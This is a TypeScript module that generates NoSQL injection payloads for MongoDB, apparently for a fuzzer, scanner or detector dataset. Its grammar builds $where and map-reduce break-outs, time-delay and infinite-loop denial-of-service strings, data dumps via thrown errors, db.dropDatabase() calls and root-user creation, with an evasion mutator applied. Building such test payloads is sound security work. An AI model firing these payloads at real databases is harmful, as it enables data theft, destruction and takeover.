/** JavaScript that a database runs: `$where` clauses and map-reduce functions that a value breaks out of. */

import type { Family } from '../../family.ts';
import {
  ALPHANUMERIC,
  characters,
  integer,
  LOWER_CASE,
  maybe,
  oneOf,
  type Rule,
  text,
  weighted,
} from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { fieldName, identifier, personName, token } from '../lexicon.ts';
import { ARGUMENTS, familyOf } from '../places.ts';
import { amongMembers, anywhere } from '../surroundings.ts';

const field: Rule = oneOf(
  'password',
  'username',
  'user',
  'email',
  'role',
  'name',
  'token',
  'isAdmin',
  'pass',
  'credit_card',
  '_id',
  fieldName,
);

const collectionCall: Rule = oneOf(
  text`db.${oneOf('users', 'accounts', 'admin', 'test', 'customers', 'foo')}.${oneOf('find()', 'drop()', 'remove()', 'count()', 'findOne()', text`insert({${field}:'${token}'})`, 'stats()', text`find({},{${field}:1})`, 'remove({})', text`update({},{$set:{${field}:'${token}'}})`)}`,
  'db.getCollectionNames()',
  'db.dropDatabase()',
  'db.version()',
  'db.adminCommand({listDatabases:1})',
  'db.currentOp()',
  text`db.getCollection('${oneOf('users', 'system.users', 'accounts')}').${oneOf('find()', 'drop()', 'count()')}`,
  text`db.eval('${oneOf('1', 'return 1', 'sleep(1)')}')`,
  text`db.createUser({user:'${personName}',pwd:'${token}',roles:['root']})`,
);

const test: Rule = oneOf(
  text`this.${field}.match(/${oneOf('.*', text`^${characters(ALPHANUMERIC, 1, 5)}`, text`^${characters(ALPHANUMERIC, 1, 3)}.*`)}/)`,
  text`this.${field}.length ${oneOf('>', '==', '<', '>=')} ${integer(0, 40)}`,
  text`this.${field}[${integer(0, 20)}] == '${characters(ALPHANUMERIC, 1)}'`,
  text`this.${field} != '${oneOf('', 'x', token)}'`,
  text`this.${field} == '${personName}'`,
  text`this.${field}.charAt(${integer(0, 20)}) == '${characters(LOWER_CASE, 1)}'`,
  text`Object.keys(this)[${integer(0, 9)}].length == ${integer(1, 12)}`,
  text`Object.keys(this)[${integer(0, 9)}].match('^.{${integer(0, 9)}}${characters(LOWER_CASE, 1)}.*')`,
  text`this.${field}.substring(${integer(0, 5)},${integer(6, 9)}) == '${characters(LOWER_CASE, 3)}'`,
  text`this.hasOwnProperty('${field}')`,
  text`tojson(this).indexOf('${field}') > -1`,
  text`/^${characters(ALPHANUMERIC, 1, 4)}/.test(this.${field})`,
);

const delay: Rule = oneOf(
  text`sleep(${integer(100, 30000)})`,
  text`var ${characters(LOWER_CASE, 1, 3)}=new Date(); do{cur=new Date();}while(cur-${characters(LOWER_CASE, 1)}<${integer(1000, 20000)})`,
  text`it=new Date();do{pt=new Date();}while(pt-it<${integer(1000, 20000)})`,
  text`(function(){var date = new Date(); do{curDate = new Date();}while(curDate-date<${integer(1000, 20000)}); return Math.max();})()`,
  'while(true){}',
  'while(1);',
  text`for(var i=0;i<1e${integer(6, 10)};i++){}`,
);

const returning: Rule = oneOf(
  'return true',
  'return 1',
  'return(true)',
  text`return ${test}`,
  text`return this.${field} != ''`,
  text`return '${characters(LOWER_CASE, 1)}' == '${characters(LOWER_CASE, 1)}' || true`,
  text`return ${integer(1, 99)}==${integer(1, 99)}`,
);

const open: Rule = oneOf(
  "'",
  "'",
  '"',
  "')",
  "'}",
  '',
  '1',
  "\\'",
  "x'",
  text`${personName}'`,
  text`${integer(0, 99)}`,
);
const remainder: Rule = oneOf(
  "var x='",
  "var foo='bar",
  "'",
  '//',
  '/*',
  "var dummy='!",
  "'a'=='a",
  '//%00',
  '<!--',
  "var a='1",
  text`var ${identifier}='${characters(LOWER_CASE, 0, 3)}`,
);

const statements: Rule = oneOf(
  text`${open};${maybe(' ')}${returning};${maybe(' ')}${remainder}`,
  text`${open}; ${delay}; ${remainder}`,
  text`${open};${delay};${remainder}`,
  text`${open}; ${collectionCall}; ${remainder}`,
  text`${open};${collectionCall};${remainder}`,
  text`${open};if(${test}){${oneOf(delay, returning)}}${maybe(remainder)}`,
  text`${open}};${returning};}//`,
  text`${open};throw ${oneOf('tojson', 'JSON.stringify')}(${oneOf('this', 'db.getCollectionNames()', 'Object.keys(this)', collectionCall)});${remainder}`,
);

const conditions: Rule = oneOf(
  text`' ${oneOf('||', '&&')} ${test} ${oneOf('||', '&&')} '${characters(LOWER_CASE, 1)}'=='${characters(LOWER_CASE, 1)}`,
  text`'${oneOf('||', '&&', ' || ', ' && ')}${test}${oneOf('//', '//%00', '/*', ';//', "||'")}`,
  text`${integer(0, 99)} ${oneOf('||', '&&')} ${test}`,
  text`${personName}' ${oneOf('||', '&&')} ${test} && '1'=='1`,
  text`" ${oneOf('||', '&&')} ${test} ${oneOf('||', '&&')} "a"=="a`,
  text`' ${oneOf('||', '&&')} ${delay} ${oneOf('||', '&&')} '1'=='1`,
  text`') ${oneOf('||', '&&')} ${test}//`,
);

const wholeFunction: Rule = oneOf(
  text`function(${maybe('x', 0.3)}){${returning}${maybe(';')}}`,
  text`function() { ${delay}; ${returning}; }`,
  text`{"$where":"${oneOf(test, returning, delay, 'function(){return true}', text`function(){${returning}}`)}"}`,
  text`$where: "${oneOf(test, returning, delay)}"`,
  text`$where=function(){${returning};}`,
  text`{$where: function() { ${returning} }}`,
  text`{"mapReduce":"${oneOf('users', 'accounts', 'orders')}","map":"function(){emit(this._id,this.${field})}","reduce":"function(k,v){return ${oneOf('v', '1', 'v[0]')}}","out":{"inline":1}}`,
  text`a);}},function(kv) { return 1; }, { out: 'x'});${oneOf(delay, 'return 1', collectionCall)};//`,
  text`function(){emit(this.${field},${integer(1, 9)});}${oneOf(',', ';')}function(k,v){${returning}}`,
  amongMembers(text`"$where":"${oneOf(test, returning, delay)}"`),
  text`{"$expr":{"$function":{"body":"function(){${oneOf(returning, delay)}}","args":[],"lang":"js"}}}`,
  text`{"${field}":{"$where":"${returning}"}}`,
);

/** NoSQL injection by JavaScript. */
export const NOSQL_JAVASCRIPT_FAMILIES: readonly Family[] = [
  familyOf('query-injection', 'nosql-statements', anywhere(weighted([5, statements], [1, collectionCall]))),
  familyOf('query-injection', 'nosql-conditions', anywhere(conditions)),
  familyOf('query-injection', 'nosql-functions', evade(wholeFunction), ARGUMENTS, 0.8),
];
